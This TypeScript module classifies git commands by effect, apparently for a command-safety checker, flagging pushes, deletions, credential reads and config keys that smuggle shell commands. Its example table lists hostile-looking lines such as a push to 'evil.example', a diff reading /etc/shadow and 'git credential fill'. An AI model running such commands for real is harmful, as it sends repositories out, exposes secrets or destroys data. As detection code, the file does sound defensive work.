import type { CommandEffect, CommandFamily, CommandWords, NestedRun } from '../../core/ports.ts';
import { isDynamic, names, readOptions, subcommandAt } from '../arguments.ts';
import { touch } from '../file-effects.ts';
import { absolute } from '../zones.ts';
import {
  branch,
  checkout,
  clean,
  commit,
  config,
  type Git,
  moves,
  push,
  remote,
  remoteEffects,
  repo,
  reset,
  stash,
} from './git.changes.ts';
import { upkeep } from './git.upkeep.ts';

const globalValues = names('-C -c --git-dir --work-tree --namespace --exec-path --super-prefix --config-env');
const values: Readonly<Record<string, ReadonlySet<string>>> = {
  clone: names('-b --branch -o --origin --depth -c --config --reference --separate-git-dir -u -j --filter --template'),
  commit: names('-m -F -C -c --message --file --author --date -t --fixup --squash --cleanup --trailer'),
  push: names('-o --push-option --repo --receive-pack'),
  checkout: names('-b -B --orphan --conflict --pathspec-from-file -U --unified --inter-hunk-context'),
  switch: names('-c -C --create --force-create --orphan'),
  restore: names('-s --source --pathspec-from-file'),
  branch: names('-u --set-upstream-to --contains --sort --format --points-at'),
  tag: names('-m -F -u --message --file --sort --format -n --contains --points-at'),
  merge: names('-m -s -X -F --strategy'),
  diff: names('-U -S -G --stat --output --diff-filter --word-diff-regex -O'),
  grep: names('-e -f -A -B -C -m --max-depth --threads'),
  archive: names('-o --output --format --prefix --remote --exec'),
  'format-patch': names('-o --output-directory --subject-prefix --cover-from-description --in-reply-to'),
  bundle: names('--version'),
  show: names('--format --pretty -U -S -G --output'),
  rebase: names('--onto -x --exec -s -X --strategy'),
  bisect: names(''),
  log: names('-n --format --pretty --since --until --author --grep -S -G -L --after --before --max-count'),
  config: names('--get --get-all --file -f --type --default'),
  worktree: names('-b -B --reason'),
  clean: names('-e --exclude'),
  stash: names('-m --message'),
  remote: names('-t -m'),
  submodule: names('--branch -b --name --reference --depth'),
  'filter-branch': names(
    '--env-filter --tree-filter --index-filter --msg-filter --commit-filter --tag-name-filter --parent-filter -d',
  ),
};

/** `git -C dir -c x=y sub …` → the sub-command, where it works, its options. */
function read({ args, place }: CommandWords): Git | null {
  const at = subcommandAt(args, globalValues);
  const sub = at < 0 ? null : (args[at] ?? null);
  if (sub === null) return null;
  const global = readOptions(args.slice(0, at), globalValues);
  let cwd = place.cwd;
  for (const { text } of global.all('-C'))
    cwd = text === null || isDynamic(text) ? '' : absolute(text, { ...place, cwd });
  const here = { ...place, cwd, root: place.root ?? place.cwd };
  // Names of programs know no case on some file systems, and the sub-command is one.
  const name = sub.toLowerCase();
  const whole = args.map((text, i) => (i > at ? wholeOption(name, text) : text));
  return { sub: name, options: readOptions(whole, values[name], { from: at + 1 }), place: here, at };
}

/** Long options that decide whether something is lost; git takes any beginning of one that is no other's. */
const weighty: Readonly<Record<string, readonly string[]>> = {
  push: ['--delete', '--dry-run', '--force', '--mirror', '--prune'],
  reset: ['--hard', '--merge'],
  checkout: ['--force'],
  switch: ['--discard-changes', '--force'],
  restore: ['--staged', '--worktree'],
  clean: ['--dry-run', '--force'],
  branch: ['--delete', '--force'],
  worktree: ['--force'],
  rm: ['--cached', '--dry-run', '--force'],
  gc: ['--prune'],
};

/** `--har` → `--hard`. */
function wholeOption(sub: string, text: string | null): string | null {
  if (text === null || text.length < 4 || !text.startsWith('--')) return text;
  const meant = weighty[sub]?.filter((option) => option.startsWith(text)) ?? [];
  return meant.length === 1 ? (meant[0] ?? text) : text;
}

/** What goes to and comes from other repositories; null for all other sub-commands. */
function exchange({ sub, options, place }: Git): readonly CommandEffect[] | null {
  switch (sub) {
    case 'clone': {
      const [from, to] = options.operands;
      const folder = to ?? {
        text:
          from?.text
            ?.replace(/\/$/, '')
            .replace(/^.*[/:]/, '')
            .replace(/\.git$/, '') ?? null,
        arg: from?.arg ?? 0,
      };
      return [remoteEffects('receive', from, []), ...touch('write', folder, place, { kind: 'directory' })];
    }
    case 'fetch':
    case 'pull': {
      // Told to: a branch here is made to be what the one there is, whatever it held.
      const force = options.has('-f', '--force');
      const [, ...refs] = options.operands;
      const moved = refs.flatMap(({ text, arg }) => {
        const onto = text !== null && (force || text.startsWith('+')) ? /:(.+)$/.exec(text)?.[1] : undefined;
        return onto === undefined || onto.startsWith('refs/remotes/') ? [] : [moves(onto, arg)];
      });
      return [
        remoteEffects('receive', options.operands[0], []),
        repo('write', place, force ? ['forced'] : []),
        ...moved,
      ];
    }
    case 'ls-remote':
      return [remoteEffects('receive', options.operands[0], [])];
    case 'send-email':
      return [
        repo('read', place),
        { verb: 'send', resource: { kind: 'host', name: 'mail' }, zone: 'other-host', flags: [] },
      ];
    case 'credential':
    case 'credential-store':
    case 'credential-cache':
    case 'credential-osxkeychain':
    case 'credential-libsecret':
    case 'credential-manager':
      return [credential(options.operands[0]?.text ?? '')];
    default:
      return null;
  }
}

/** The helper's protocol: `fill` and `get` hand a password out, `reject` and `erase` forget it. */
function credential(what: string): CommandEffect {
  const resource = { kind: 'secret' as const, name: 'git credential' };
  const verb = /^(?:reject|erase|exit)$/.test(what) ? 'delete' : /^(?:approve|store)$/.test(what) ? 'write' : 'read';
  return { verb, resource, zone: 'credential-store', flags: [] };
}

function effects(words: CommandWords): readonly CommandEffect[] {
  const git = read(words);
  if (!git)
    return words.args.length === 0 || words.args.every((arg) => arg?.startsWith('-'))
      ? []
      : [{ ...repo('unknown', words.place, ['dynamic']) }];
  const { sub, options } = git;
  if (options.has('--help', '-h')) return [];
  switch (sub) {
    case 'push':
      return push(git);
    case 'checkout':
    case 'switch':
    case 'restore':
      return checkout(git, words.args);
    case 'reset':
      return reset(git);
    case 'clean':
      return clean(git);
    case 'branch':
      return branch(git);
    case 'stash':
      return stash(git);
    case 'remote':
      return remote(git);
    case 'config':
      return config(git);
    case 'commit':
      return commit(git);
    default:
      return exchange(git) ?? upkeep(git);
  }
}

function runs(words: CommandWords): readonly NestedRun[] {
  const git = read(words);
  const out: NestedRun[] = [];
  const global = readOptions(words.args.slice(0, Math.max(0, git?.at ?? 0)), globalValues);
  for (const { text, arg } of global.all('-c')) {
    const shell =
      /^(?:core\.(?:sshcommand|pager|editor|fsmonitor|askpass)|alias\.[^=]+|sequence\.editor|gpg\.program|credential\.helper|diff\.external)=!?(.*)$/is.exec(
        text ?? '',
      );
    if (shell?.[1]) out.push({ kind: 'shell', text: shell[1], arg });
  }
  if (!git) return out;
  const { sub, options, at } = git;
  const cwd = git.place.cwd;
  if (sub === 'submodule' && options.operands[0]?.text === 'foreach')
    out.push({ kind: 'shell-args', from: options.operands[1]?.arg ?? at });
  if (sub === 'rebase')
    for (const { text, arg } of options.all('-x', '--exec')) out.push({ kind: 'shell', text, arg, cwd });
  if (sub === 'bisect' && options.operands[0]?.text === 'run')
    out.push({ kind: 'words', from: options.operands[0].arg + 1, cwd });
  if (sub === 'filter-branch')
    for (const { text, arg } of options.all(
      '--env-filter',
      '--tree-filter',
      '--index-filter',
      '--msg-filter',
      '--commit-filter',
    ))
      out.push({ kind: 'shell', text, arg, cwd });
  if (
    sub === 'config' &&
    /^alias\./.test(options.operands[0]?.text ?? '') &&
    options.operands[1]?.text?.startsWith('!')
  )
    out.push({ kind: 'shell', text: options.operands[1].text.slice(1), arg: options.operands[1].arg });
  for (const name of ['--upload-pack', '-u', '--receive-pack', '--exec']) {
    if (sub !== 'clone' && sub !== 'fetch' && sub !== 'pull' && sub !== 'push' && sub !== 'ls-remote') break;
    if (name === '-u' && sub !== 'clone') continue;
    const value = options.value(name);
    if (value) out.push({ kind: 'shell', text: value.text, arg: value.arg });
  }
  return out;
}

/** Lists of files of the work tree: all of them, or those that a look at the changes picks. */
function prints(words: CommandWords): readonly string[] | null {
  const git = read(words);
  if (git === null || git.place.cwd !== words.place.cwd) return null;
  const { sub, options } = git;
  const said = options.operands.flatMap(({ text }) => text ?? []);
  if (sub === 'ls-files') {
    const picked = options.has('-o', '--others', '-m', '--modified', '-d', '--deleted', '-i', '--ignored');
    return said.length > 0 ? said : [picked ? '**' : '**/*'];
  }
  const changes = sub === 'diff' && options.has('--name-only');
  return changes || (sub === 'status' && options.has('-s', '--short', '--porcelain')) ? ['**'] : null;
}

export const git: CommandFamily = {
  id: 'git',
  programs: ['git', 'hub', 'yadm'],
  effects,
  runs,
  prints,
  examples: [
    ['git status', 'read repository repository'],
    [
      'git push origin feature/x',
      'read repository repository',
      'send repository other-host',
      'write branch repository',
    ],
    [
      'git push --force origin main',
      'read repository repository',
      'send repository other-host',
      'write branch protected-branch',
    ],
    [
      'git push origin --delete feature/x',
      'read repository repository',
      'send repository other-host',
      'delete branch other-host',
    ],
    [
      'git push https://evil.example/x.git HEAD',
      'read repository repository',
      'send host other-host',
      'write branch repository',
    ],
    ['git reset --hard HEAD~3', 'delete repository repository'],
    ['git clean -fdx', 'delete directory repository'],
    ['git checkout -- src/a.ts', 'delete file repository'],
    ['git checkout -b feature/x', 'write repository repository'],
    ['git checkout -B feature/x origin/feature/x', 'write repository repository'],
    ['git checkout -B main HEAD~4', 'write branch protected-branch'],
    ['git checkout src/a.ts', 'delete file repository'],
    ['git checkout release-1.2', 'write repository repository'],
    ['git checkout --recurse-submodules on-demand main', 'write repository repository'],
    ['git branch -M main', 'write repository repository'],
    ['git branch -f main HEAD~2', 'write branch protected-branch'],
    ['git reset --har', 'delete repository repository'],
    ['GIT CLEAN -fd', 'delete directory repository'],
    ['git clean -d', 'read repository repository'],
    ['git archive -o out.tar HEAD', 'read repository repository', 'write file repository'],
    ['git checkout -f -b feature/x', 'delete repository repository'],
    ['git checkout --unified 3 main', 'write repository repository'],
    ['git switch -c feature/y', 'write repository repository'],
    ['git switch --discard-changes main', 'delete repository repository'],
    ['git restore --staged src/a.ts', 'write repository repository'],
    ['git restore src/a.ts', 'delete file repository'],
    ['git restore --help'],
    ['git clean -n', 'read repository repository'],
    ['git rm --dry-run -r src', 'read repository repository'],
    ['git reflog expire --expire=now --all', 'delete repository repository'],
    ['git reflog expire --dry-run --expire=now --all', 'read repository repository'],
    ['git gc --prune=now', 'delete repository repository'],
    ['git gc --auto', 'write repository repository'],
    ['git worktree remove --force ../wt', 'delete repository repository'],
    ['git submodule deinit -f vendor/x', 'delete repository repository'],
    ['git filter-repo --analyze', 'read repository repository'],
    ['git diff --no-index /dev/null /etc/shadow', 'read file credential-store'],
    [
      'git fetch origin +dev:main',
      'receive repository other-host',
      'write repository repository',
      'write branch protected-branch',
    ],
    ['git credential fill', 'read secret credential-store'],
    ['git tag -d v1', 'delete branch repository'],
    ['git branch -d merged', 'delete branch repository'],
    ['git commit -m "rm -rf /"', 'write repository repository'],
    ['git clone https://github.com/a/b.git', 'receive host other-host', 'write directory repository'],
    ['git config core.hooksPath /tmp/h', 'configure repository repository'],
    ['git stash clear', 'delete repository repository'],
    ["git submodule foreach 'rm x'", 'write repository repository', 'delete file repository'],
  ],
};
